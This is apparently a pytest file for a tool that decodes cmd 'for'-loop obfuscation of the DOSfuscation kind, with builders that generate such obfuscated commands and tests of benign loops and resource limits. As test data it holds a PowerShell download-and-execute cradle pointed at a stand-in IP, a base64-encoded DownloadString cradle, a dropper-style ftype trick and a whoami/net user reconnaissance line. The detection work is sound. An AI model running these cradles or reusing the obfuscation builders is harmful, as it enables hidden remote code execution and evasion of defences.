"""cmd ``for`` loops that build a command one character at a time (DOSfuscation's FORcode
and REVERSE, and the one-liners droppers copy from them).

The builders write a command of our own the way those loops do: the command's characters
shuffled into a ``set`` string and picked back by index (``for %A in (3 0 7 ... 1337)``), or
the command written backwards (with junk between its characters) and read by ``for /L`` with
a negative step. Traps: ``for`` loops as administrators write them.
"""

from __future__ import annotations

import random

import pytest

from .builders import layers

COMMAND = "powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a -UseB)"


def _name(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(1, 10)))


def for_coded(command: str, seed: int, *, batch: bool = False) -> str:
    rng = random.Random(seed)
    alphabet = list(dict.fromkeys(command))
    rng.shuffle(alphabet)
    sentinel = rng.choice((1337, 999, len(alphabet) + rng.randint(5, 50)))
    separator = rng.choice((" ", ",", ";"))
    indices = separator.join(str(alphabet.index(c)) for c in command) + f"{separator}{sentinel}"
    source, out = _name(rng), _name(rng)
    while out == source:
        out = _name(rng)
    var = ("%%" if batch else "%") + rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    escaped = "".join("^" + c if c in "&|<>()" else c for c in alphabet)
    use = rng.choice(
        (
            f"CALL %{out}:~-{len(command)}%",
            f"call !{out}:~{len(out) + 2}!",
            f"call %{out}:~-{len(command)}%",
        )
    )
    body = (
        f"set {source}={escaped}&&FOR {var} IN ({indices}) DO set {out}=!{out}!!{source}:~{var},1!"
        f"&& IF {var}=={sentinel} {use}"
    )
    return body if batch else f'cmd /V:ON /C "{body}"'


def reversed_loop(command: str, seed: int, junk: int = 0) -> str:
    rng = random.Random(seed)
    pieces = []
    for c in reversed(command):
        pieces.append(c)
        pieces.extend(rng.choice("abcxyz0123") for _ in range(junk))
    written = "".join(pieces)
    step = -(junk + 1)
    source, out = "rev" + _name(rng), "fin" + _name(rng)
    return (
        f'cmd /v:on /c "set {source}={written}&& for /L %i in ({len(written) - 1 - junk},{step},0)'
        f' do set {out}=!{out}!!{source}:~%i,1!&& if %i==0 call %{out}:~-{len(command)}%"'
    )


@pytest.mark.parametrize("seed", range(12))
def test_for_code_on_a_command_line(seed: int) -> None:
    assert ("cmd_for", COMMAND) in layers(for_coded(COMMAND, seed))


@pytest.mark.parametrize("seed", range(4))
def test_for_code_in_a_batch_file(seed: int) -> None:
    assert ("cmd_for", COMMAND) in layers(for_coded(COMMAND, seed, batch=True))


@pytest.mark.parametrize("junk", [0, 1, 3])
def test_reversed_by_a_for_l_loop(junk: int) -> None:
    assert ("cmd_for", COMMAND) in layers(reversed_loop(COMMAND, junk, junk))


def test_escaped_specials_in_the_string_count_once() -> None:
    command = "whoami /all & net user > C:\\Users\\Public\\u.txt"
    for seed in range(6):
        assert ("cmd_for", command) in layers(for_coded(command, seed))


def test_the_built_command_is_decoded_further() -> None:
    import base64

    inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/b')"
    encoded = base64.b64encode(inner.encode("utf-16-le")).decode()
    found = layers(for_coded(f"powershell -enc {encoded}", 3))
    assert found[0][0] == "cmd_for"
    assert any(text == inner for _, text in found)


def test_the_built_command_echoed_into_a_for_f() -> None:
    # Droppers echo the result into ``for /f ... do %U`` (ftype spells ``powershell``).
    alphabet = "".join(dict.fromkeys(COMMAND))
    indices = ";".join(str(alphabet.index(c)) for c in COMMAND) + ";82"
    line = (
        f'cmd /V:ON /C "set wm={alphabet}&&for %A in ({indices})do set RxY=!RxY!!wm:~%A,1!'
        f'&&if %A==82 echo !RxY:~-{len(COMMAND)}!|FOR /F "delims=Fafn tokens=1" %U IN '
        '(\'ftype^^^|find "dfi"\')DO %U "'
    )
    assert ("cmd_for", COMMAND) in layers(line)


@pytest.mark.parametrize(
    "text",
    [
        "for %f in (*.txt) do type %f",
        "for /L %i in (1,1,5) do echo %i",
        "for /f \"tokens=*\" %a in ('dir /b') do set list=!list! %a",
        'cmd /v /c "set s=abc&&for %A in (0 1) do set o=!o!!s:~%A,1!&& echo !o!"',  # 2 chars
        "for %%A in (1 2 3) do set x=!x!!y:~%%A,1!",  # y is never set
        "for /L %i in (5,0,1) do set o=!o!!s:~%i,1!",  # a step of zero never ends
    ],
)
def test_traps_stay_clean(text: str) -> None:
    assert [e for e, _ in layers(text) if e == "cmd_for"] == []


def test_a_long_loop_is_bounded() -> None:
    line = "set s=abcdef&&for /L %i in (0,1,100000000) do set o=!o!!s:~%i,1!&& call %o%"
    found = [text for e, text in layers(line) if e == "cmd_for"]
    assert found == ["abcdef"]  # indices past the string add nothing; the loop is capped


@pytest.mark.parametrize(
    "hostile",
    [
        "set s=abcdefgh&&for %A in (0 1 2 3) do set o=!o!!s:~%A,1!&&" * 20_000,
        "for %A in (" + "1 " * 130_000 + ") do set o=!o!!s:~%A,1!",
        "set s=x&&for /L %A in (" + "9" * 100_000 + ") do set o=!o!!s:~%A,1!",
    ],
)
def test_hostile_loops_return(hostile: str) -> None:
    found = [text for e, text in layers(hostile) if e == "cmd_for"]
    assert len(found) <= 64
